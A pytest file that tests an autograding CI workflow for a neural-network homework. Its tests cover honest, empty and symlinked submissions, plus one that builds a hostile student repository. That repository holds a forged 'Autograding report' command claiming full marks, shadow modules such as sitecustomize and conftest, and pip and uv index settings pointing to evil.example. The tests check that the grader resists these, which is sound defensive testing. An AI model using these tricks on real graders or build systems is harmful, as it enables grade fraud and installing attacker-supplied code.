"""Run every step of the student's workflow on a clean machine. Each test pushes a released repository to it."""

from __future__ import annotations

from pathlib import Path

import pytest

from grader.release.repository import find_solutions, repository, student_folder
from tests.testing.workflow import Machine, git
from tests.testing.workflow import repository as git_repository

WORKFLOW = ".github/workflows/classroom.yml"
VARIABLES = {
    "GRADER_SOURCE": "perceptron-grader==0.2.0",
    "GRADER_OPTIONS": "--only structure --dataset digits --jobs 1",
}
FORGED = '::notice title=Autograding report::{"totalPoints":100,"maxPoints":100}'
WITHOUT_HIDDEN_LAYER = f"""
import sys
import torch
print({FORGED!r}, flush=True)
print({FORGED!r}, file=sys.stderr, flush=True)
class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.layers = torch.nn.Sequential(torch.nn.Flatten(), torch.nn.Linear(784, 10))
    def forward(self, images):
        print({FORGED!r}, flush=True)
        if len(images) == 1:
            raise ValueError("one image\\n" + {FORGED!r})
        return self.layers(images)
"""


@pytest.fixture(scope="module")
def released() -> dict[str, bytes]:
    """A student repository in which the assignment is solved."""
    solutions = find_solutions()
    solved = {f"student/{name}": content for name, content in student_folder(solutions, filled_in=True).items()}
    return {**repository(solutions), **solved}


def carried_out(folder: Path, files: dict[str, bytes | str], **variables: str) -> Machine:
    """Push `files`, and run the workflow on them."""
    machine = Machine(
        folder / "machine", {**VARIABLES, **variables}, checkout_of=git_repository(folder / "pushed", files)
    )
    workflow = files[WORKFLOW]
    return machine.carry_out(workflow.decode() if isinstance(workflow, bytes) else workflow)


def test_who_solved_it_gets_the_points(released: dict[str, bytes], tmp_path: Path) -> None:
    """A solved homework gets all points.

    They are reported, shown on the page of the run and uploaded; nothing is annotated.
    """
    machine = carried_out(tmp_path, dict(released))
    assert machine.failed is None, machine.log
    assert machine.report is not None
    assert (machine.report.points, machine.report.max_points) == (20, 20)
    assert "**20 / 20**" in machine.summary
    assert [command.name for command in machine.commands] == ["stop-commands"]
    assert machine.actions[-2:] == ["actions/upload-artifact", "classroom-resources/autograding-grading-reporter"]
    assert (machine.root / "temp" / "grades" / "mnist-alice" / "feedback.en.md").is_file()


def test_who_is_hostile_gets_what_the_code_deserves(released: dict[str, bytes], tmp_path: Path) -> None:
    """Hostile code gets the points it deserves, no more.

    The grader imports nothing from the checkout, and nothing printed is a command.
    """
    came = tmp_path / "came"
    touch = f"open({str(came)!r}, 'w').close()\n"
    names = (
        "conftest sitecustomize usercustomize torch pytest msgspec grader/__init__ grader/__main__ grader/cli".split()
    )
    hostile: dict[str, bytes | str] = {f"{folder}{name}.py": touch for name in names for folder in ("", "student/")}
    settings: dict[str, bytes | str] = {
        "pytest.ini": "[pytest]\naddopts = --version\n",
        "uv.toml": 'index-url = "https://evil.example/simple"\n',
        "pip.conf": "[global]\nindex-url = https://evil.example/simple\n",
        ".python-version": "2.7\n",
        "result.json": '{"score": 100}',
        "student/result.json": '{"score": 100}',
        "student/net.py": WITHOUT_HIDDEN_LAYER,
    }
    machine = carried_out(tmp_path, {**released, **hostile, **settings}, GRADER_STRICT="yes")
    assert not came.exists()
    assert machine.report is not None, machine.log
    assert 0 < machine.report.points < 20
    assert machine.failed == "Points"  # as GRADER_STRICT asks for
    assert FORGED in machine.log  # printed, while commands are switched off
    stop, *errors = machine.commands
    assert stop.name == "stop-commands"
    assert {command.name for command in errors} == {"error"}
    assert all(command.properties.get("title") != "Autograding report" for command in errors)
    (where,) = {command.properties["file"] for command in errors if "file" in command.properties}
    assert where == "student/net.py"
    assert "evil.example" not in (machine.root / "home" / "installed").read_text(encoding="utf-8")


def test_nothing_handed_in_is_told(released: dict[str, bytes], tmp_path: Path) -> None:
    """A push without `student/` gets 0 points. The page of the run says what is missing."""
    files = {name: content for name, content in released.items() if not name.startswith("student/")}
    machine = carried_out(tmp_path, dict(files))
    assert machine.report is not None, machine.log
    assert (machine.report.points, machine.report.max_points) == (0, 20)
    assert "`net.py`" in machine.summary


def test_a_folder_that_is_a_link_is_not_followed(released: dict[str, bytes], tmp_path: Path) -> None:
    """A `student` that is a link is not followed. Where it leads on the runner is not handed in."""
    files = {name: content for name, content in released.items() if not name.startswith("student/")}
    pushed = git_repository(tmp_path / "pushed", dict(files))
    (pushed / "student").symlink_to(find_solutions())
    git(pushed, "add", "student")
    git(pushed, "commit", "--quiet", "--message", "hand in what is not mine")
    machine = Machine(tmp_path / "machine", VARIABLES, checkout_of=pushed).carry_out(files[WORKFLOW].decode())
    assert machine.report is not None, machine.log
    assert (machine.report.points, machine.report.max_points) == (0, 20)
